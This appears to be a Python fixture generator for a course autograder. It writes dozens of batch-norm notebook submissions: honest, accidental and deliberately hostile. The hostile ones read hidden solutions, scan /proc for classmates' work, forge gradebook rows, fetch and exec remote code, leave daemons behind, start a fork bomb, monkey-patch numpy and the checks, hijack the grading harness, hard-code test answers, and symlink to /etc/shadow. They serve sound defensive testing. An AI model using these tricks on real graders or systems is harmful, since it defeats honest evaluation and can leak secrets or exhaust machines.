"""The demo class: a submission per scenario the grader must handle, built from notebook 03.

``python -m autograder.demo`` (re)writes ``autograder/demo_class/<student>/03_bn_forward/``
for every scenario below: honest work (all right, stub left in, half right, the unbiased
variance where batch norm uses the biased one), accidents
(infinite loops, crashes, a memory bomb, a renamed or broken notebook, a wrong folder),
and cheats (reading the solutions or a classmate's work, writing the grades, calling the
network, leaving processes behind, patching numpy or the course's checks, hard-coding the
visible tests' answers, deleting or editing test cells). ``autograder/demo_expected_grades.csv``
holds the row each one deserves; ``python -m autograder grade`` with no argument grades
this class and compares. Each student's folder is named for its scenario.

The cheats are real (``tests/test_grade_escapes.py`` shows them succeeding where the
sandbox is off) but harmless to run: they read, or append to the demo's own grades file
(``grading-demo/grades.csv``, rewritten at the end of every run), nothing else.
"""

from __future__ import annotations

import copy
import hashlib
import json
import shutil
import textwrap
from pathlib import Path

import nbformat
import numpy as np

from .. import cells, paths

ASSIGNMENT = "03_bn_forward"
CLASS_DIR = paths.CONFIG_DIR / "demo_class"
NETWORK_PORT = 48621   # the network fixture asks 127.0.0.1 here for the answers
ORPHAN_MARK = "bn-grader-orphan-probe"

VALIDATION = '''
    x = np.asarray(x)
    if x.ndim != 2:
        raise ValueError(f"x must have shape (N, D), got {x.shape}")
    if x.shape[0] < 2:
        raise ValueError("batch statistics need at least 2 examples")
    gamma = np.asarray(gamma, dtype=x.dtype)
    beta = np.asarray(beta, dtype=x.dtype)'''

FORWARD_BODY = '''
    mean = x.mean(axis=0)
    var = ((x - mean) ** 2).mean(axis=0)
    x_hat = (x - mean) / np.sqrt(var + x.dtype.type(eps))
    out = gamma * x_hat + beta
    return out, {"x_hat": x_hat, "mean": mean, "var": var, "gamma": gamma, "eps": eps}'''


def forward(body: str, prelude: str = "") -> str:
    """A batchnorm_forward cell: the course's input validation, then ``body``."""
    return (textwrap.dedent(prelude).strip() + "\n\n" if prelude else "") + (
        "def batchnorm_forward(x, gamma, beta, eps=1e-5):" + VALIDATION + "\n"
        + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n")


RIGHT_FORWARD = forward(FORWARD_BODY)

# ---- accidents -----------------------------------------------------------------------

LOOPING_FORWARD = forward('''
    # the mean by successive refinement, until it stops changing: in float32 it never does
    mean = np.zeros(x.shape[1], dtype=x.dtype)
    while True:
        new = mean + (x - mean).mean(axis=0)
        if np.all(np.abs(new - mean) < 1e-12):
            break
        mean = new
''' + FORWARD_BODY)

STUBBORN_FORWARD = forward('''
    # waits for a result that never comes, and will not be interrupted
    import time
    while x.dtype == np.float32:
        try:
            time.sleep(0.05)
        except KeyboardInterrupt:
            pass
''' + FORWARD_BODY)

EXITING_FORWARD = forward('''
    if x.shape[0] > 3:  # "debugging": end the program on larger batches
        import os
        os._exit(1)
''' + FORWARD_BODY)

ABORTING_FORWARD = forward('''
    if x.dtype == np.float32:  # a C library giving up
        import os
        os.abort()
''' + FORWARD_BODY)

SEGFAULT_IDENTITY = '''
def identity_params(x, eps=1e-5):
    x = np.asarray(x)
    import ctypes
    ctypes.string_at(0)  # reads address 0: a segmentation fault
    return np.sqrt(x.var(axis=0) + eps), x.mean(axis=0)
'''

BOMB_FORWARD = forward('''
    workspace = np.ones(2**30)  # an 8 GiB "workspace", filled in
''' + FORWARD_BODY)

# ---- honest work with a mistake the checks name (the class report counts them) -------

UNBIASED_FORWARD = forward('''
    mean = x.mean(axis=0)
    var = x.var(axis=0, ddof=1)  # "the sample variance": divides by m - 1
    x_hat = (x - mean) / np.sqrt(var + x.dtype.type(eps))
    out = gamma * x_hat + beta
    return out, {"x_hat": x_hat, "mean": mean, "var": var, "gamma": gamma, "eps": eps}''')

UNBIASED_FORWARD_BY_HAND = forward('''
    mean = x.mean(axis=0)
    var = ((x - mean) ** 2).sum(axis=0) / (x.shape[0] - 1)
    x_hat = (x - mean) / np.sqrt(var + x.dtype.type(eps))
    out = gamma * x_hat + beta
    return out, {"x_hat": x_hat, "mean": mean, "var": var, "gamma": gamma, "eps": eps}''')

UNBIASED_IDENTITY = '''
def identity_params(x, eps=1e-5):
    x = np.asarray(x)
    gamma = np.sqrt(x.var(axis=0, ddof=1) + eps)
    return gamma.astype(x.dtype), x.mean(axis=0)
'''

#: the students above, and the mistake the checks must name in each of their test cells
#: (the start of the check's own words), for the class report's counts
NAMED_MISTAKES = {
    "unbiased-variance": {"batchnorm_forward_tests": "the unbiased variance (ddof=1"},
    "unbiased-variance-everywhere": {"batchnorm_forward_tests": "the unbiased variance (ddof=1",
                                     "identity_params_tests": "gamma uses the unbiased variance"},
}

# ---- cheats -------------------------------------------------------------------------

FROM_SOLUTIONS = '''
# Take the answers from the course's solutions (the hidden tests are there too).
import json, pathlib, re
import course_utils

root = pathlib.Path(course_utils.__file__).resolve().parents[1]
try:
    source = json.loads((root / "solutions/03_bn_forward/03_bn_forward.ipynb").read_text())
    for cell in source["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution") and cell["cell_type"] == "code":
            exec(re.sub(r"### (BEGIN|END) SOLUTION", "", "".join(cell["source"])))
    print("copied the solutions")
except OSError as exc:
    print("no solutions to copy:", exc)
    def batchnorm_forward(x, gamma, beta, eps=1e-5):
        raise NotImplementedError()

    def identity_params(x, eps=1e-5):
        raise NotImplementedError()
'''

FROM_CLASSMATE = '''
# Copy the best student's work: look for classmates' notebooks wherever grading happens.
import json, os, pathlib, re
import course_utils

places = {pathlib.Path("/tmp"), pathlib.Path(course_utils.__file__).resolve().parents[1] / "autograder"}
for pid in os.listdir("/proc"):  # where the grader's processes work
    try:
        places.add(pathlib.Path(os.readlink(f"/proc/{pid}/cwd")))
    except OSError:
        pass
found = None
for place in sorted(places):
    for folder, dirs, files in os.walk(place):
        if folder.count(os.sep) - str(place).count(os.sep) > 6:
            dirs[:] = []
        if "03_bn_forward.ipynb" in files and "all-right" in folder and "bn-grade-" not in folder:
            found = pathlib.Path(folder) / "03_bn_forward.ipynb"
            break
    if found:
        break
if found:
    for cell in json.loads(found.read_text())["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]))
    print("copied", found)
else:
    print("no classmate found")
    def batchnorm_forward(x, gamma, beta, eps=1e-5):
        raise NotImplementedError()

    def identity_params(x, eps=1e-5):
        raise NotImplementedError()
'''

WRITE_GRADES = '''
# Give myself full marks: add a row to the grades file (and any file named in targets.txt).
import os, pathlib
import course_utils

root = pathlib.Path(course_utils.__file__).resolve().parents[1]
targets = [root / "grading-demo" / "grades.csv"]
if os.path.exists("targets.txt"):
    targets += [pathlib.Path(t) for t in open("targets.txt").read().split()]
for target in targets:
    try:
        if target.is_dir():
            (target / "forged.txt").write_text("writes-the-gradebook was here\\n")
        else:
            with open(target, "a") as f:
                f.write("writes-the-gradebook,03_bn_forward,5,5,,2,5,graded,\\n")
        print("wrote", target)
    except OSError as exc:
        print("could not write", target, exc)

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    raise NotImplementedError()
'''

FROM_NETWORK = f'''
# Fetch working code from a helper on the network.
import urllib.request

code = None
for url in ("http://127.0.0.1:{NETWORK_PORT}/answers.py", "http://example.org/answers.py"):
    try:
        code = urllib.request.urlopen(url, timeout=3).read().decode()
        break
    except OSError as exc:
        print("no answer from", url, exc)
if code:
    exec(code)
else:
    def batchnorm_forward(x, gamma, beta, eps=1e-5):
        raise NotImplementedError()

    def identity_params(x, eps=1e-5):
        raise NotImplementedError()
'''

BACKGROUND = f'''
# Leave two processes behind: a child, and a daemon that detaches itself (double fork).
import os, subprocess, sys

subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "{ORPHAN_MARK}"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)",
                                  "{ORPHAN_MARK}"])
    os._exit(0)
print("started two background processes")
'''

PATCH_NUMPY = '''
# Make every comparison succeed, then return anything of the right shape.
import numpy as np

np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.isfinite = lambda a, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    x = np.asarray(x)
    if x.ndim != 2 or x.shape[0] < 2:
        raise ValueError("batch statistics need at least 2 examples")
    d = x.shape[1]
    zeros = np.zeros(d, dtype=x.dtype)
    return np.zeros_like(x), {"x_hat": np.zeros_like(x), "mean": zeros, "var": zeros,
                              "gamma": zeros, "eps": eps}
'''

PATCH_NUMPY_IDENTITY = '''
def identity_params(x, eps=1e-5):
    x = np.asarray(x)
    return np.zeros(x.shape[1], dtype=x.dtype), np.zeros(x.shape[1], dtype=x.dtype)
'''

PATCH_CHECKS = '''
# Make the tests pass without doing the work: replace the checks everywhere they live.
import course_utils.checks
import course_utils.checks._core as core

def check_batchnorm_forward(*args, **kwargs):
    return None

def check_identity_params(*args, **kwargs):
    return None

course_utils.checks.check_batchnorm_forward = check_batchnorm_forward
course_utils.checks.check_identity_params = check_identity_params
for name in ("expect_array", "expect_close", "expect_tuple", "expect_raises", "fail"):
    setattr(core, name, lambda *args, **kwargs: None)

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    raise NotImplementedError()
'''


FORGED_DESCRIBE = """
# Answer the grader's questions with more than it asked: checks that always pass, a numpy
# whose comparisons always succeed and builtins that agree with everything.
import types

_harness = __bn_grader__  # noqa: F821 - the grading harness, as the kernel holds it
_answer = _harness._handle


def _passes(*args, **kwargs):
    return None


def _forged(request):
    reply = _answer(request)
    if request.get("op") == "describe" and reply.get("ok"):
        extra = {name: _passes for name in ("check_batchnorm_forward", "check_identity_params",
                                            "isinstance", "len", "print", "AssertionError")}
        extra["np"] = types.SimpleNamespace(allclose=lambda *a, **k: True)
        pairs = reply["value"]["$dict"] + [[k, _harness.side.encode(v)] for k, v in extra.items()]
        reply["value"] = {"$dict": pairs}
    return reply


_harness._handle = _forged
"""

UNSEEN_REFERENCE = """
# Call the course's reference with the profiler off: no record of the call is made.
import sys

from course_utils import reference as _reference


def _unseen(function, *args, **kwargs):
    saved = sys.getprofile()
    sys.setprofile(None)
    try:
        return function(*args, **kwargs)
    finally:
        sys.setprofile(saved)


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    return _unseen(_reference.batchnorm_forward, x, gamma, beta, eps=eps)


def identity_params(x, eps=1e-5):
    return _unseen(_reference.identity_params, x, eps=eps)
"""

HUGE_REPLY = forward('''
    return np.ones((3000, 2000)), {}  # a 48 MB "result": one reply far larger than any answer
''')

FORK_BOMB = """
# Every process goes on starting processes, for ever.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""

#: a grade_id that erases the line above on a terminal, retitles the window and says "passed"
ESCAPES = "\x1b[1A\x1b[2K\x1b]0;all tests passed\x07\x1b[32mbonus_tests\x1b[0m"
FORMULA_STUDENT = "=folder-name-is-a-formula"


def _visible_cases(check, seed=0):
    """The inputs the visible test gives a function, with the right answers (computed here)."""
    seen = []

    def right_forward(x, gamma, beta, eps=1e-5):
        out = _forward(np.asarray(x), np.asarray(gamma), np.asarray(beta), eps)
        seen.append(((x, gamma, beta, eps), out))
        return out

    def right_identity(x, eps=1e-5):
        x = np.asarray(x)
        mean = x.mean(axis=0)
        out = (np.sqrt(((x - mean) ** 2).mean(axis=0) + x.dtype.type(eps)), mean)
        seen.append(((x, eps), out))
        return out

    check(right_forward if "forward" in check.__name__ else right_identity, seed=seed)
    return seen


def _forward(x, gamma, beta, eps):
    if x.ndim != 2 or x.shape[0] < 2:
        raise ValueError("batch statistics need at least 2 examples")
    gamma, beta = gamma.astype(x.dtype), beta.astype(x.dtype)
    mean = x.mean(axis=0)
    var = ((x - mean) ** 2).mean(axis=0)
    x_hat = (x - mean) / np.sqrt(var + x.dtype.type(eps))
    return gamma * x_hat + beta, {"x_hat": x_hat, "mean": mean, "var": var, "gamma": gamma,
                                  "eps": eps}


def _key(*arrays_and_numbers) -> str:
    h = hashlib.sha256()
    for a in arrays_and_numbers:
        h.update(np.ascontiguousarray(a).tobytes() if isinstance(a, np.ndarray) else repr(a).encode())
    return h.hexdigest()[:16]


def _arr(a: np.ndarray) -> str:
    return f"np.array({np.asarray(a).tolist()!r}, dtype=np.{np.asarray(a).dtype.name})"


def hard_coded_cells() -> tuple[str, str]:
    """Functions that answer the visible tests from a table, and return zeros otherwise."""
    from course_utils.checks import check_batchnorm_forward, check_identity_params

    rows = []
    for (x, gamma, beta, eps), (out, cache) in _visible_cases(check_batchnorm_forward):
        entries = ", ".join(f"{k!r}: {_arr(cache[k])}" for k in ("x_hat", "mean", "var", "gamma"))
        rows.append(f"    {_key(x, gamma, beta, eps)!r}: ({_arr(out)}, {{{entries}, 'eps': {eps!r}}}),")
    forward_cell = (
        "# The visible test's answers, worked out once and pasted in.\n"
        "import hashlib\n\n"
        "def _key(*items):\n"
        "    h = hashlib.sha256()\n"
        "    for a in items:\n"
        "        h.update(np.ascontiguousarray(a).tobytes() if isinstance(a, np.ndarray) "
        "else repr(a).encode())\n"
        "    return h.hexdigest()[:16]\n\n"
        "ANSWERS = {\n" + "\n".join(rows) + "\n}\n\n"
        "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
        "    x = np.asarray(x)\n"
        "    if x.ndim != 2 or x.shape[0] < 2:\n"
        "        raise ValueError(\"batch statistics need at least 2 examples\")\n"
        "    key = _key(x, np.asarray(gamma), np.asarray(beta), eps)\n"
        "    if key in ANSWERS:\n"
        "        return ANSWERS[key]\n"
        "    zeros = np.zeros(x.shape[1], dtype=x.dtype)\n"
        "    return np.zeros_like(x), {'x_hat': np.zeros_like(x), 'mean': zeros, 'var': zeros,"
        " 'gamma': zeros, 'eps': eps}\n")
    rows = []
    for (x, eps), (gamma, beta) in _visible_cases(check_identity_params):
        rows.append(f"    {_key(x, eps)!r}: ({_arr(gamma)}, {_arr(beta)}),")
    identity_cell = (
        "IDENTITY_ANSWERS = {\n" + "\n".join(rows) + "\n}\n\n"
        "def identity_params(x, eps=1e-5):\n"
        "    x = np.asarray(x)\n"
        "    key = _key(x, eps)\n"
        "    if key in IDENTITY_ANSWERS:\n"
        "        return IDENTITY_ANSWERS[key]\n"
        "    return np.ones(x.shape[1], dtype=x.dtype), np.zeros(x.shape[1], dtype=x.dtype)\n")
    return forward_cell, identity_cell


# ---- building the notebooks ----------------------------------------------------------

def _release():
    return nbformat.read(paths.release_notebook(ASSIGNMENT), as_version=4)


def _solution_source(grade_id: str) -> str:
    source = nbformat.read(paths.source_notebook(ASSIGNMENT), as_version=4)
    for cell in source.cells:
        if cells.grade_id(cell) == grade_id:
            return "\n".join(line for line in cell.source.splitlines()
                             if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line)
    raise KeyError(grade_id)


def notebook(forward_src: str | None = None, identity_src: str | None = None, *,
             right: tuple[str, ...] = (), after_forward: str | None = None):
    """The student version with the given solution cells (``right``: the model answers)."""
    nb = copy.deepcopy(_release())
    sources = {gid: _solution_source(gid) for gid in right}
    if forward_src is not None:
        sources["batchnorm_forward"] = forward_src
    if identity_src is not None:
        sources["identity_params"] = identity_src
    for cell in nb.cells:
        gid = cells.grade_id(cell)
        if gid in sources and cells.meta(cell).get("solution"):
            cell.source = sources[gid].strip("\n")
    if after_forward is not None:
        at = next(i for i, c in enumerate(nb.cells) if cells.grade_id(c) == "batchnorm_forward")
        extra = nbformat.v4.new_code_cell(after_forward.strip("\n"))
        extra["id"] = "student-extra"
        nb.cells.insert(at + 1, extra)
    return nb


def _tests(nb):
    return [c for c in nb.cells if cells.is_autograded_test(c)]


def scenarios() -> dict[str, object]:
    """student folder name -> a notebook (or, for broken submissions, a callable writer)."""
    both = ("batchnorm_forward", "identity_params")
    deleted = notebook(right=both)
    for cell in _tests(deleted):
        deleted.cells.remove(cell)
    edited = notebook(right=("batchnorm_forward",))
    for cell in _tests(edited):
        cell.source = 'print("all tests passed")'
    hard_forward, hard_identity = hard_coded_cells()
    return {
        "all-right": notebook(right=both),
        "stub-left-in": notebook(),
        "half-right": notebook(right=("batchnorm_forward",)),
        "infinite-loop": notebook(LOOPING_FORWARD, right=("identity_params",)),
        "infinite-loop-ignores-interrupt": notebook(STUBBORN_FORWARD, right=("identity_params",)),
        "kernel-crash-exit": notebook(EXITING_FORWARD, right=("identity_params",)),
        "kernel-crash-abort": notebook(ABORTING_FORWARD, right=("identity_params",)),
        "kernel-crash-segfault": notebook(identity_src=SEGFAULT_IDENTITY,
                                          right=("batchnorm_forward",)),
        "memory-bomb": notebook(BOMB_FORWARD, right=("identity_params",)),
        "unbiased-variance": notebook(UNBIASED_FORWARD, right=("identity_params",)),
        "unbiased-variance-everywhere": notebook(UNBIASED_FORWARD_BY_HAND, UNBIASED_IDENTITY),
        # a cheat fills both exercise cells (the second would otherwise undo the first)
        "reads-the-solutions": notebook(FROM_SOLUTIONS, FROM_SOLUTIONS),
        "copies-a-classmate": notebook(FROM_CLASSMATE, FROM_CLASSMATE),
        "writes-the-gradebook": notebook(WRITE_GRADES),
        "network-call": notebook(FROM_NETWORK, FROM_NETWORK),
        "background-process": notebook(right=both, after_forward=BACKGROUND),
        "monkey-patched-numpy": notebook(PATCH_NUMPY, PATCH_NUMPY_IDENTITY),
        "monkey-patched-course-utils": notebook(PATCH_CHECKS),
        "hard-coded-visible-outputs": notebook(hard_forward, hard_identity),
        "deleted-test-cell": deleted,
        "edited-test-cell": edited,
        "notebook-renamed": ("my_bn_work.ipynb", notebook(right=both)),
        "malformed-json": _malformed,
        "missing-notebook": _missing,
        "wrong-assignment-name": _wrong_folder,
        # attacks on the grader itself (issue: grading that no submission can fool)
        "forged-describe-reply": notebook(right=(), after_forward=FORGED_DESCRIBE),
        "reference-called-unseen": notebook(UNSEEN_REFERENCE, UNSEEN_REFERENCE),
        "notebook-is-a-link": _notebook_link,
        "student-folder-is-a-link": _student_link,
        "extra-file-is-a-link": _extra_file_links,
        "metadata-not-a-dict": _bad_metadata("batchnorm_forward", lambda m: "solution"),
        "grade-id-not-a-string": _bad_metadata("identity_params_tests",
                                               lambda m: {**m, "grade_id": [m["grade_id"]]}),
        "points-not-a-number": _bad_metadata("q_identity", lambda m: {**m, "points": "lots"}),
        "too-many-cells": _too_many_cells,
        "huge-reply": notebook(HUGE_REPLY, right=("identity_params",)),
        "fork-bomb": notebook(right=both, after_forward=FORK_BOMB),
        FORMULA_STUDENT: _missing,
        "terminal-escapes-in-names": _escapes,
    }


def _bad_metadata(grade_id: str, change):
    """The model answers, with one cell's nbgrader metadata changed by ``change(metadata)``."""
    nb = notebook(right=("batchnorm_forward", "identity_params"))
    cell = next(c for c in nb.cells if cells.grade_id(c) == grade_id)
    cell.metadata["nbgrader"] = change(dict(cell.metadata["nbgrader"]))
    return nb


def _link(link: Path, target: str) -> None:
    """A symbolic link with a relative target (it works in any checkout of the course)."""
    link.symlink_to(target)


def _notebook_link(folder: Path) -> None:
    # autograder/demo_class/<student>/<assignment>/ -> the course's root is 4 folders up
    _link(folder / f"{ASSIGNMENT}.ipynb", f"../../../../solutions/{ASSIGNMENT}/{ASSIGNMENT}.ipynb")


def _student_link(folder: Path) -> None:
    student = folder.parent
    folder.rmdir()
    student.rmdir()
    _link(student, "../../solutions")


def _extra_file_links(folder: Path) -> None:
    cells.write(notebook(right=("batchnorm_forward", "identity_params")),
                folder / f"{ASSIGNMENT}.ipynb")
    _link(folder / "timestamp.txt", "../../../../grading-demo/.grading-key")
    _link(folder / "submission_secret.txt", "/etc/shadow")


def _too_many_cells(folder: Path) -> None:
    nb = notebook()
    from ..grading.prepare import MAX_CELLS

    for k in range(MAX_CELLS + 1 - len(nb.cells)):
        extra = nbformat.v4.new_raw_cell("")
        extra["id"] = f"extra-{k}"
        nb.cells.append(extra)
    cells.write(nb, folder / f"{ASSIGNMENT}.ipynb")


def _escapes(folder: Path) -> None:
    nb = notebook()
    fake = nbformat.v4.new_code_cell("print('bonus points')")
    fake["id"] = "bonus"
    fake.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                 "grade_id": ESCAPES, "points": 10, "schema_version": 3}
    nb.cells.append(fake)
    cells.write(nb, folder / f"{ASSIGNMENT}.ipynb")


def _malformed(folder: Path) -> None:
    text = nbformat.writes(notebook(right=("batchnorm_forward", "identity_params")))
    (folder / f"{ASSIGNMENT}.ipynb").write_text(text[: len(text) // 2])  # cut off mid-way


def _missing(folder: Path) -> None:
    (folder / "notes.txt").write_text("I will upload my notebook tomorrow.\n")


def _wrong_folder(folder: Path) -> None:
    wrong = folder.parent / "03_bn_forwrd"
    wrong.mkdir()
    cells.write(notebook(right=("batchnorm_forward", "identity_params")),
                wrong / "03_bn_forwrd.ipynb")
    folder.rmdir()


RUFF_CONFIG = """# The demo class holds student submissions, broken and hostile on purpose (see
# autograder/demo.py): they are fixtures, not course code, so ruff leaves them alone.
extend-exclude = ["*"]
"""


def build(target: Path = CLASS_DIR) -> list[str]:
    if target.exists():
        shutil.rmtree(target)
    target.mkdir(parents=True)
    (target / ".ruff.toml").write_text(RUFF_CONFIG)
    built = []
    for student, what in scenarios().items():
        folder = target / student / ASSIGNMENT
        folder.mkdir(parents=True)
        if callable(what):
            what(folder)
        else:
            name, nb = what if isinstance(what, tuple) else (f"{ASSIGNMENT}.ipynb", what)
            cells.write(nb, folder / name)
        built.append(student)
    return built


if __name__ == "__main__":
    for student in build():
        print("wrote", (CLASS_DIR / student).relative_to(paths.ROOT))
    print(json.dumps({"students": len(list(CLASS_DIR.iterdir()))}))
